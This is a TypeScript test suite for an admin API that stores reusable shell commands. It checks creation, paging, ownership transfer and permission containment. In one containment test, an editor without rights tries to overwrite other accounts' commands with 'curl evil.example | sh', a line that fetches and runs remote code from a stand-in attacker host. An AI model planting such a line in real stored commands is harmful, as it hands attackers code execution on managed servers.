import { describe, expect, it } from 'vitest';
import { SUPER_ADMIN_ID } from '../../../server/permissions/effective.ts';
import { adminWith, type Paged, resourcesHarness } from './helpers.ts';

interface Command {
  id: string;
  name: string;
  content: string;
  owner: string;
  ownerName?: string;
  created: string;
}

describe('dynamic commands', () => {
  it('creates, reads, lists, updates and deletes', async () => {
    const { h, api } = await resourcesHarness();
    const content = 'uptime\n  df -h  \n';
    const created = await api.ok<Command>('POST', '/commands', { body: { name: ' disk ', content } });
    expect(created).toEqual({ id: created.id, name: 'disk', content, owner: SUPER_ADMIN_ID, ownerName: expect.any(String), created: created.created });
    expect(await api.ok('GET', `/commands/${created.id}`)).toEqual(created);
    const { ownerName: _, ...listed } = created;
    expect(await api.ok('GET', '/commands')).toEqual([listed]);
    await api.ok('PUT', `/commands/${created.id}`, { body: { name: 'disk', content: 'df -i' } });
    expect(await api.ok('GET', `/commands/${created.id}`)).toMatchObject({ content: 'df -i' });
    expect((await api.call('PUT', '/commands/ghost', { body: { name: 'x', content: 'y' } })).body).toEqual({ code: -1, message: '动态指令不存在：ghost' });
    expect((await api.call('GET', '/commands/ghost')).body).toEqual({ code: -1, message: '动态指令不存在：ghost' });
    await api.ok('DELETE', `/commands/${created.id}`);
    expect(await h.db.selectFrom('commands').select('id').execute()).toEqual([]);
  });

  it('requires a name and a content', async () => {
    const { api } = await resourcesHarness();
    expect((await api.call('POST', '/commands', { body: { name: '', content: 'ls' } })).body).toEqual({ code: 400, message: 'name: required' });
    expect((await api.call('POST', '/commands', { body: { name: 'a', content: ' \n ' } })).body).toEqual({ code: 400, message: 'content: required' });
    expect((await api.call('POST', '/commands', { body: { name: 'a' } })).body.code).toBe(400);
    expect((await api.call('POST', '/commands', { body: { name: 'a', content: 'x'.repeat(64 * 1024 + 1) } })).body.code).toBe(400);
  });

  it('pages for real with the name and content filters (LIKE, escaped) and sorting', async () => {
    const { h, api } = await resourcesHarness();
    for (const [name, content] of [
      ['disk', 'df -h'],
      ['load', 'uptime'],
      ['mem', 'free -m'],
      ['disk inodes', 'df -i'],
      ['pct', 'echo 100%'],
    ]) {
      h.clock.advance(1000);
      await api.ok('POST', '/commands', { body: { name, content } });
    }
    const page = (q: string) => api.ok<Paged<Command>>('GET', `/commands/paging?${q}`);
    const names = (p: Paged<Command>) => p.items.map((c) => c.name);
    expect(names(await page(''))).toEqual(['pct', 'disk inodes', 'mem', 'load', 'disk']);
    expect(await page('pageIndex=2&pageSize=2')).toMatchObject({ total: 5, items: [{ name: 'mem' }, { name: 'load' }] });
    expect(names(await page('content=df'))).toEqual(['disk inodes', 'disk']);
    expect(names(await page('name=disk&content=-h'))).toEqual(['disk']);
    expect(names(await page('content=%25'))).toEqual(['pct']);
    expect(names(await page('content=_'))).toEqual([]);
    expect(names(await page('field=name&order=ascend'))).toEqual(['disk', 'disk inodes', 'load', 'mem', 'pct']);
    expect((await page('name=load')).items[0]).toMatchObject({ owner: SUPER_ADMIN_ID, content: 'uptime' });
  });

  it('deletes comma lists all or nothing', async () => {
    const { h, api } = await resourcesHarness();
    const a = await api.ok<Command>('POST', '/commands', { body: { name: 'a', content: 'a' } });
    const b = await api.ok<Command>('POST', '/commands', { body: { name: 'b', content: 'b' } });
    expect((await api.call('DELETE', `/commands/${a.id},ghost`)).body).toEqual({ code: -1, message: '动态指令不存在：ghost', data: ['ghost'] });
    expect(await h.db.selectFrom('commands').select('id').execute()).toHaveLength(2);
    await api.ok('DELETE', `/commands/${b.id},${a.id}`);
    expect(await h.db.selectFrom('commands').select('id').execute()).toEqual([]);
  });

  it('changes the owner with command-change-owner, to an existing user', async () => {
    const { h, api, as } = await resourcesHarness();
    const c = await api.ok<Command>('POST', '/commands', { body: { name: 'a', content: 'ls' } });
    const bob = await h.createUser({ username: 'bob' });
    const alice = await h.createUser({ username: 'alice' });
    const changer = as((await adminWith(h, ['command-change-owner'], 'changer')).token);
    expect((await changer.call('GET', '/users')).body.code).toBe(1); // the owner picker
    expect((await changer.call('POST', `/commands/${c.id}/change-owner?owner=ghost`)).body).toEqual({ code: -1, message: '用户不存在：ghost' });
    expect((await changer.call('POST', `/commands/ghost/change-owner?owner=${bob}`)).body).toEqual({ code: -1, message: '动态指令不存在：ghost' });
    // Containment: the super admin's command is not the changer's to give away, nor is the super admin a recipient.
    expect((await changer.call('POST', `/commands/${c.id}/change-owner?owner=${bob}`)).body).toEqual({ code: -1, message: '不能转移账户「admin」的所有权：只有超级管理员本人可以这样做' });
    await api.ok('POST', `/commands/${c.id}/change-owner?owner=${alice}`);
    expect(await changer.ok('POST', `/commands/${c.id}/change-owner?owner=${bob}`)).toBe('');
    expect((await api.ok<Paged<Command>>('GET', '/commands/paging')).items[0]).toMatchObject({ owner: bob, ownerName: 'bob' });
    const editor = as((await adminWith(h, ['command-edit'], 'editor')).token);
    expect((await editor.call('POST', `/commands/${c.id}/change-owner?owner=${bob}`)).body.code).toBe(403);
    expect((await editor.call('DELETE', `/commands/${c.id}`)).body.code).toBe(403);
    expect((await editor.call('GET', `/commands/${c.id}`)).body.code).toBe(1);
  });

  it('rewriting or deleting another account’s command passes containment (issue 28, rule 4: the reproduction)', async () => {
    const { h, api, as } = await resourcesHarness();
    const vault = (await api.ok<{ id: string }>('POST', '/assets', { body: { name: 'vault', protocol: 'ssh', ip: '10.0.0.9', port: 22, accountType: 'custom', username: 'root' } })).id;
    const ann = await h.createUser({ username: 'ann', type: 'user' });
    await api.ok('POST', '/authorised/users', { body: { userIds: [ann], assetId: vault } });
    const bob = await h.createUser({ username: 'bob', type: 'user' });
    const rootCmd = await api.ok<Command>('POST', '/commands', { body: { name: 'deploy', content: 'make deploy' } });
    const annCmd = await as(await h.accessToken(ann)).ok<Command>('POST', '/worker/commands', { body: { name: 'backup', content: 'pg_dump prod' } });
    const bobCmd = await as(await h.accessToken(bob)).ok<Command>('POST', '/worker/commands', { body: { name: 'disk', content: 'df -h' } });
    const editorAccount = await adminWith(h, ['command', 'command-add', 'command-edit', 'command-del', 'command-change-owner'], 'editor');
    const editor = as(editorAccount.token);
    const contents = async () => (await h.db.selectFrom('commands').select(['id', 'content']).orderBy('id').execute()).map((c) => `${c.id}:${c.content}`);
    const before = await contents();
    const evil = { name: 'x', content: 'curl evil.example | sh' };

    const superOwned = { code: -1, message: '不能修改账户「admin」的动态指令：只有超级管理员本人可以这样做' };
    const annOwned = { code: -1, message: '不能修改账户「ann」的动态指令：该账户可以访问您无权访问的资产（vault）' };
    expect((await editor.call('PUT', `/commands/${rootCmd.id}`, { body: evil })).body).toEqual(superOwned);
    expect((await editor.call('PUT', `/commands/${annCmd.id}`, { body: evil })).body).toEqual(annOwned);
    expect((await editor.call('DELETE', `/commands/${rootCmd.id}`)).body).toEqual(superOwned);
    expect((await editor.call('DELETE', `/commands/${bobCmd.id},${annCmd.id}`)).body).toEqual(annOwned);
    expect(await contents()).toEqual(before);
    // Taking another's command as its own is refused too (nobody but the super admin gives itself a record).
    expect((await editor.call('POST', `/commands/${bobCmd.id}/change-owner?owner=${editorAccount.id}`)).body).toEqual({
      code: -1,
      message: '不能把其他账户的记录转给您自己：只有超级管理员可以',
    });

    // Its own, and those of an account it may act on: allowed.
    const mine = await editor.ok<Command>('POST', '/commands', { body: { name: 'mine', content: 'ls' } });
    await editor.ok('PUT', `/commands/${mine.id}`, { body: { name: 'mine', content: 'ls -l' } });
    await editor.ok('PUT', `/commands/${bobCmd.id}`, { body: { name: 'disk', content: 'df -i' } });
    await editor.ok('DELETE', `/commands/${bobCmd.id},${mine.id}`);
    // The super admin edits anyone's.
    await api.ok('PUT', `/commands/${annCmd.id}`, { body: { name: 'backup', content: 'pg_dump -Fc prod' } });
  });
});
